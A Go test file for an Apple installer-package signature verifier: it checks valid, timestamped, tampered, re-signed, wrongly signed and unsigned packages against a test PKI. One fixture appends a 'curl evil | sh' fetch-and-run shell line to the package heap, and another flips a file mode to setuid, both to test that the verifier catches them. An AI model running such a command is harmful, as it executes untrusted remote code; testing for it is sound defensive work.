package pkg

import (
	"bytes"
	"crypto"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/shipgate/shipgate/internal/machofile"
	"github.com/shipgate/shipgate/internal/pkgfile"
	"github.com/shipgate/shipgate/internal/testpki"
	"github.com/shipgate/shipgate/signing"
)

var (
	pkiOnce sync.Once
	pki     *pkgfile.PKI
	trust   *signing.TrustStore
)

func testPKI(t testing.TB) (*pkgfile.PKI, *signing.TrustStore) {
	pkiOnce.Do(func() {
		pki = pkgfile.NewPKI()
		var err error
		trust, err = signing.NewTrustStore(signing.TrustStoreOptions{PEM: [][]byte{pki.Root.PEM()}})
		if err != nil {
			panic(err)
		}
	})
	return pki, trust
}

// signedSpec is a Developer ID Installer–signed package with an RSA
// signature and a timestamped CMS x-signature, as productsign writes.
func signedSpec(t testing.TB) pkgfile.Spec {
	p, _ := testPKI(t)
	return pkgfile.Spec{
		Files:  plainFiles(),
		Signer: p.Installer, Chain: []*testpki.Cert{p.CA},
		CMS: true, TSA: p.TSA, TimestampAt: machofile.SignTime,
	}
}

func verifyBytes(t testing.TB, b []byte, at time.Time) *Result {
	t.Helper()
	_, ts := testPKI(t)
	res, err := Verify(bytes.NewReader(b), int64(len(b)), Options{Trust: ts, Time: at})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func rules(res *Result) string {
	var out []string
	for _, f := range res.Findings {
		out = append(out, string(f.Rule))
	}
	return strings.Join(out, " ")
}

func statuses(res *Result) string {
	var out []string
	for _, s := range res.Signatures {
		out = append(out, string(s.Format)+":"+s.Status.String())
	}
	return strings.Join(out, " ")
}

func TestVerifyValid(t *testing.T) {
	t.Parallel()
	b, _ := pkgfile.Build(signedSpec(t))
	res := verifyBytes(t, b, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:valid apple-pkg-cms:valid" || len(res.Findings) != 0 {
		t.Fatalf("statuses %s, findings %v", got, res.Findings)
	}
	s := res.Signatures[0]
	if s.Signer.TeamID != machofile.TeamID || len(s.Chain) != 3 || !s.Digest.Match() {
		t.Errorf("signer %+v chain %d digest %+v", s.Signer, len(s.Chain), s.Digest)
	}
	if ts := res.Signatures[1].Timestamp; ts == nil || !ts.Verified {
		t.Errorf("timestamp %+v", ts)
	}
}

// TestVerifyTimestampMovesValidationTime: checked years after the leaf
// expired, the package is valid because its CMS timestamp verifies.
func TestVerifyTimestampMovesValidationTime(t *testing.T) {
	t.Parallel()
	b, _ := pkgfile.Build(signedSpec(t))
	later := machofile.SignTime.AddDate(20, 0, 0)
	if got := statuses(verifyBytes(t, b, later)); got != "apple-pkg:valid apple-pkg-cms:valid" {
		t.Errorf("with timestamp: %s", got)
	}
	s := signedSpec(t)
	s.CMS = false
	b, _ = pkgfile.Build(s)
	res := verifyBytes(t, b, later)
	if got := statuses(res); got != "apple-pkg:untrusted" || !strings.Contains(rules(res), string(RuleUntrustedChain)) {
		t.Errorf("without timestamp: %s, %s", got, rules(res))
	}
}

func TestVerifySHA256AndRSAOnly(t *testing.T) {
	t.Parallel()
	s := signedSpec(t)
	s.CMS, s.Hash = false, crypto.SHA256
	b, _ := pkgfile.Build(s)
	if got := statuses(verifyBytes(t, b, machofile.SignTime)); got != "apple-pkg:valid" {
		t.Errorf("statuses %s", got)
	}
}

// TestVerifyTamperedTOC: a table of contents changed after signing, its
// stored checksum left alone, fails the checksum; with the checksum
// recomputed, both signatures fail.
func TestVerifyTamperedTOC(t *testing.T) {
	t.Parallel()
	spec := signedSpec(t)
	spec.TSA = nil // a CMS of fixed length, so both heaps line up
	good, lay := pkgfile.Build(spec)
	spec.TweakTOC = func(s string) string { return strings.Replace(s, "<mode>0644</mode>", "<mode>4755</mode>", 1) }
	bad, badLay := pkgfile.Build(spec)
	// The heaps have the same layout: put the good checksum and
	// signatures back.
	heapGood, heapBad := good[lay.HeapStart:], bad[badLay.HeapStart:]
	sigEnd := int(lay.Data["Distribution"])
	copy(heapBad[:sigEnd], heapGood[:sigEnd])
	res := verifyBytes(t, bad, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:invalid apple-pkg-cms:invalid" || !strings.Contains(rules(res), string(RuleTOCChecksumMismatch)) {
		t.Errorf("statuses %s, findings %s", got, rules(res))
	}
	// The forger recomputes the checksum but cannot sign it.
	x := open(t, bad)
	copy(heapBad[:20], x.TOCDigest())
	res = verifyBytes(t, bad, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:invalid apple-pkg-cms:invalid" || rules(res) != "pkg/signature-invalid pkg/signature-invalid" {
		t.Errorf("statuses %s, findings %s", got, rules(res))
	}
}

// TestVerifyTamperedFileData: one byte of a file's heap data changed.
func TestVerifyTamperedFileData(t *testing.T) {
	t.Parallel()
	b, lay := pkgfile.Build(signedSpec(t))
	b[lay.HeapStart+lay.Data["a.pkg/Payload"]+3] ^= 1
	res := verifyBytes(t, b, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:invalid apple-pkg-cms:invalid" || rules(res) != string(RuleFileChecksumMismatch) {
		t.Errorf("statuses %s, findings %s", got, rules(res))
	}
	if off := *res.Findings[0].Offset; off != lay.HeapStart+lay.Data["a.pkg/Payload"] {
		t.Errorf("offset %d", off)
	}
}

// TestVerifyOtherTeam: a package re-signed with another team's valid
// installer certificate verifies, naming that team, for policy to refuse.
func TestVerifyOtherTeam(t *testing.T) {
	t.Parallel()
	p, _ := testPKI(t)
	s := signedSpec(t)
	s.Signer = p.OtherTeam
	b, _ := pkgfile.Build(s)
	res := verifyBytes(t, b, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:valid apple-pkg-cms:valid" || res.Signatures[0].Signer.TeamID != pkgfile.OtherTeamID {
		t.Errorf("statuses %s, signer %+v", got, res.Signatures[0].Signer)
	}
}

// TestVerifySignerMismatch: the CMS by one team and the RSA by another.
func TestVerifySignerMismatch(t *testing.T) {
	t.Parallel()
	p, _ := testPKI(t)
	s := signedSpec(t)
	s.CMSSigner = p.OtherTeam
	b, _ := pkgfile.Build(s)
	res := verifyBytes(t, b, machofile.SignTime)
	if !strings.Contains(rules(res), string(RuleSignerMismatch)) {
		t.Errorf("findings %s", rules(res))
	}
}

func TestVerifyUntrustedRoot(t *testing.T) {
	t.Parallel()
	p, _ := testPKI(t)
	s := signedSpec(t)
	s.Signer, s.Chain, s.CMS = p.Untrusted, nil, false
	b, _ := pkgfile.Build(s)
	res := verifyBytes(t, b, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:untrusted" || rules(res) != string(RuleUntrustedChain) {
		t.Errorf("statuses %s, findings %s", got, rules(res))
	}
}

// TestVerifyApplicationCertificate: a Developer ID Application certificate
// may not sign installer packages.
func TestVerifyApplicationCertificate(t *testing.T) {
	t.Parallel()
	p, _ := testPKI(t)
	s := signedSpec(t)
	s.Signer, s.CMS = p.Leaf, false
	b, _ := pkgfile.Build(s)
	res := verifyBytes(t, b, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:untrusted" || rules(res) != string(RuleNotInstallerCertificate) {
		t.Errorf("statuses %s, findings %s", got, rules(res))
	}
}

// TestVerifyWrongSignedBytes: an RSA signature over something else than
// the checksum.
func TestVerifyWrongSignedBytes(t *testing.T) {
	t.Parallel()
	s := signedSpec(t)
	s.CMS, s.SignWith = false, make([]byte, 20)
	b, _ := pkgfile.Build(s)
	res := verifyBytes(t, b, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:invalid" || rules(res) != string(RuleSignatureInvalid) {
		t.Errorf("statuses %s, findings %s", got, rules(res))
	}
}

func TestVerifyUnsigned(t *testing.T) {
	t.Parallel()
	b, _ := pkgfile.Build(pkgfile.Spec{Files: plainFiles()})
	res := verifyBytes(t, b, machofile.SignTime)
	if len(res.Signatures) != 0 || len(res.Findings) != 0 || !res.TOCChecksumOK || !res.FilesOK {
		t.Errorf("%+v", res)
	}
}

// TestVerifyExtraHeapBytes: bytes appended after the heap belong to
// nothing: reported, and the signatures no longer vouch for the file.
func TestVerifyExtraHeapBytes(t *testing.T) {
	t.Parallel()
	s := signedSpec(t)
	s.ExtraHeap = []byte("#!/bin/sh\ncurl evil | sh\n")
	b, _ := pkgfile.Build(s)
	res := verifyBytes(t, b, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:invalid apple-pkg-cms:invalid" || rules(res) != string(RuleUnownedHeapData) {
		t.Errorf("statuses %s, findings %s", got, rules(res))
	}
}

// TestVerifyMissingArchivedChecksum: a file the table binds by no checksum
// is not covered by the signature.
func TestVerifyMissingArchivedChecksum(t *testing.T) {
	t.Parallel()
	s := signedSpec(t)
	s.Files = append(plainFiles(), pkgfile.File{Path: "a.pkg/Scripts", Data: []byte("unbound"), NoChecksums: true})
	b, _ := pkgfile.Build(s)
	res := verifyBytes(t, b, machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:invalid apple-pkg-cms:invalid" || rules(res) != string(RuleFileChecksumMissing) {
		t.Errorf("statuses %s, findings %s", got, rules(res))
	}
}
